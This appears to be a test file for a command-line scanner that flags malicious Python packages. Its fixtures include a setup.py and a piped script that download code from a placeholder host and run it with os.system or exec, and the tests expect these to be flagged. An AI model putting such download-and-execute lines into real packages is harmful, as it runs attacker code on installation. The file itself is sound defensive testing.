import { spawn, spawnSync } from "node:child_process";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { scanResultSchema } from "../../../main/model/analysis/scan-result.ts";
import packageJson from "../../../package.json" with { type: "json" };
import { type LoopbackIndex, startLoopbackIndex } from "../../support/loopback-index.ts";
import { buildWheel } from "../../support/loopback-index-wheel.ts";

/** Every scan here starts a process that loads everything anew: seconds of work, and more on a machine that has much to do. */
vi.setConfig({ testTimeout: 180_000 });

const program = fileURLToPath(new URL("../../../main/cli/vivarium.ts", import.meta.url));
let folder: string;
let index: LoopbackIndex | undefined;

beforeAll(async () => {
	folder = await mkdtemp(path.join(tmpdir(), "vivarium-process-"));
	await mkdir(path.join(folder, "calm"));
	await writeFile(path.join(folder, "calm", "calm.py"), "def add(left, right):\n    return left + right\n");
	// Inert: the host does not exist, and nothing here is ever run.
	const install =
		'import os\nimport urllib.request\nfrom setuptools import setup\n\nos.system(urllib.request.urlopen("http://payload.invalid/x").read().decode())\nsetup(name="odd")\n';
	await mkdir(path.join(folder, "odd"));
	await writeFile(path.join(folder, "odd", "setup.py"), install);
	await writeFile(path.join(folder, "text.whl"), "this is no archive");
});

afterAll(async () => {
	await rm(folder, { recursive: true, force: true });
});

afterEach(async () => {
	await index?.close();
	index = undefined;
});

interface Ended {
	status: number | null;
	stdout: string;
	stderr: string;
}

/** The program as a process of its own, in the folder, with none of this machine's pip settings. */
function vivarium(args: readonly string[], environment: NodeJS.ProcessEnv = {}): Promise<Ended> {
	return new Promise((resolve, reject) => {
		const child = spawn(process.execPath, [program, ...args], {
			cwd: folder,
			env: {
				PATH: process.env.PATH,
				HOME: folder,
				NODE_COMPILE_CACHE: process.env["NODE_COMPILE_CACHE"],
				PIP_CONFIG_FILE: "/dev/null",
				...environment,
			},
			stdio: ["ignore", "pipe", "pipe"],
		});
		let stdout = "";
		let stderr = "";
		child.stdout.setEncoding("utf8").on("data", (text: string) => {
			stdout += text;
		});
		child.stderr.setEncoding("utf8").on("data", (text: string) => {
			stderr += text;
		});
		child.once("error", reject);
		child.once("close", (status) => resolve({ status, stdout, stderr }));
	});
}

describe("vivarium, as a process", () => {
	it("tells its version and how it is used", async () => {
		expect(await vivarium(["--version"])).toEqual({
			status: 0,
			stdout: `vivarium ${packageJson.version}\n`,
			stderr: "",
		});
		const help = await vivarium(["scan", "--help"]);
		expect([help.status, help.stderr]).toEqual([0, ""]);
		expect(help.stdout).toContain("--all-distributions");
	});

	it.each([[[]], [["scan"]], [["scan", "odd", "--format", "sarif"]], [["rules", "no-such-rule"]], [["frob"]]])(
		"answers wrong usage %j with 2 and one line on stderr",
		async (args) => {
			const { status, stdout, stderr } = await vivarium(args);
			expect([status, stdout]).toEqual([2, ""]);
			expect(stderr).toMatch(/^vivarium: [^\n]+\n$/);
		},
	);

	it("judges a package that runs what it downloads on installation, and one that does nothing", async () => {
		const odd = await vivarium(["scan", "odd"]);
		expect([odd.status, odd.stderr]).toEqual([1, ""]);
		expect(odd.stdout).toMatch(/^ (?:SUSPICIOUS|MALICIOUS) /);
		expect(odd.stdout).toContain("hxxp[://]payload[.]invalid/x");
		expect(odd.stdout).toMatch(/\n +5 │ .*os\.system\(.*\n +│ +\^+/);
		expect(odd.stdout).not.toContain("\u001b");
		const calm = await vivarium(["scan", "calm"]);
		expect([calm.status, calm.stdout.startsWith(" CLEAR ")]).toEqual([0, true]);
	});

	it("reads a script that is piped to it", () => {
		const input = 'import os\nimport urllib.request\nexec(urllib.request.urlopen("http://payload.invalid/x").read())\n';
		const ended = spawnSync(process.execPath, [program, "scan", "-", "--format", "json"], {
			cwd: folder,
			input,
			encoding: "utf8",
			env: {
				PATH: process.env.PATH,
				HOME: folder,
				NODE_COMPILE_CACHE: process.env["NODE_COMPILE_CACHE"],
				PIP_CONFIG_FILE: "/dev/null",
			},
		});
		expect([ended.status, ended.stderr]).toEqual([1, ""]);
		const [artifact] = scanResultSchema.parse(JSON.parse(ended.stdout)).artifacts;
		expect(artifact).toMatchObject({ target: "-", filename: "stdin.py", coverage: { members: 1, examined: 1 } });
	});

	it("gives the same JSON twice, as the schema has it, and 3 when a target could not be opened", async () => {
		const read = async (): Promise<unknown> => {
			const { status, stdout, stderr } = await vivarium([
				"scan",
				"odd",
				"text.whl",
				"absent.whl",
				"calm",
				"--format",
				"json",
			]);
			expect(status).toBe(3);
			expect(stderr.trimEnd().split("\n")).toHaveLength(2);
			return JSON.parse(stdout, (key, value: unknown) => (key === "durationMs" ? 0 : value));
		};
		const first = await read();
		expect(await read()).toEqual(first);
		const { artifacts } = scanResultSchema.parse(first);
		expect(artifacts.map(({ target, status }) => [target, status])).toEqual([
			["odd", "scanned"],
			["text.whl", "failed"],
			["absent.whl", "failed"],
			["calm", "scanned"],
		]);
	});

	it("finds the same with and without the prefilter", async () => {
		const findings = async (...options: string[]) => {
			const { stdout } = await vivarium(["scan", "odd", "calm", "--format", "json", ...options]);
			return scanResultSchema.parse(JSON.parse(stdout)).artifacts.map((artifact) => artifact.findings);
		};
		expect(await findings("--prefilter")).toEqual(await findings("--no-prefilter"));
	});

	it("scans a wheel from an index named by PIP_INDEX_URL", async () => {
		const wheel = buildWheel("harmless-sample", "1.2.0");
		index = await startLoopbackIndex(new Map([["harmless-sample", [wheel]]]));
		const args = ["scan", "harmless_sample==1.2", "--format", "json", "--output", "out.json"];
		const { status, stdout, stderr } = await vivarium(args, { PIP_INDEX_URL: index.url });
		expect({ status, stdout, stderr }).toEqual({ status: 0, stdout: "", stderr: "" });
		const written = scanResultSchema.parse(JSON.parse(await readFile(path.join(folder, "out.json"), "utf8")));
		expect(written.artifacts[0]).toMatchObject({
			status: "scanned",
			project: "harmless-sample",
			version: "1.2.0",
			filename: wheel.filename,
			size: wheel.bytes.length,
			verdict: "clear",
		});
	});

	it("says in one line what is wrong with the index, and never its password", async () => {
		const environment = { PIP_INDEX_URL: "http://ana:s3cret@index.example/simple" };
		const { status, stdout, stderr } = await vivarium(["scan", "some-project"], environment);
		expect(status).toBe(3);
		expect(stderr).toMatch(/^vivarium: some-project: The address from PIP_INDEX_URL .* is plain http[^\n]*\n$/);
		expect(stdout + stderr).not.toContain("s3cret");
	});

	it.skipIf(process.platform === "win32").each(["SIGINT", "SIGTERM"] as const)(
		"ends with 130 on %s, and leaves no half file",
		async (signal) => {
			index = await startLoopbackIndex(new Map([["slow", [buildWheel("slow", "1.0")]]]), { silent: true });
			const asked = index.requests;
			const ended = await new Promise<Ended>((resolve, reject) => {
				const child = spawn(process.execPath, [program, "scan", "slow", "--output", "interrupted.txt"], {
					cwd: folder,
					env: {
						PATH: process.env.PATH,
						HOME: folder,
						NODE_COMPILE_CACHE: process.env["NODE_COMPILE_CACHE"],
						PIP_INDEX_URL: index?.url,
					},
					stdio: ["ignore", "pipe", "pipe"],
				});
				const poll = setInterval(() => {
					if (asked.length === 0) return;
					clearInterval(poll);
					child.kill(signal);
				}, 20);
				child.once("error", reject);
				child.once("close", (status) => resolve({ status, stdout: "", stderr: "" }));
			});
			expect(ended.status).toBe(130);
			await expect(readFile(path.join(folder, "interrupted.txt"))).rejects.toThrow(/ENOENT/);
		},
	);

	it.skipIf(process.platform === "win32")("ends quietly when nobody reads on", async () => {
		const ended = await new Promise<Ended>((resolve, reject) => {
			const child = spawn(process.execPath, [program, "rules"], { stdio: ["ignore", "pipe", "pipe"] });
			child.stdout.destroy();
			let stderr = "";
			child.stderr.setEncoding("utf8").on("data", (text: string) => {
				stderr += text;
			});
			child.once("error", reject);
			child.once("close", (status) => resolve({ status, stdout: "", stderr }));
		});
		expect(ended).toEqual({ status: 141, stdout: "", stderr: "" });
	});

	it("takes relative paths from where the analyst stands, also through npm", () => {
		const environment = { npm_lifecycle_event: "vivarium", INIT_CWD: path.join(folder, "odd") };
		const run = spawnSync(process.execPath, [program, "scan", "./setup.py", "--format", "json"], {
			cwd: folder,
			env: {
				PATH: process.env.PATH,
				HOME: folder,
				NODE_COMPILE_CACHE: process.env["NODE_COMPILE_CACHE"],
				...environment,
			},
			encoding: "utf8",
		});
		expect(scanResultSchema.parse(JSON.parse(run.stdout)).artifacts[0]).toMatchObject({ filename: "setup.py" });
	});
});
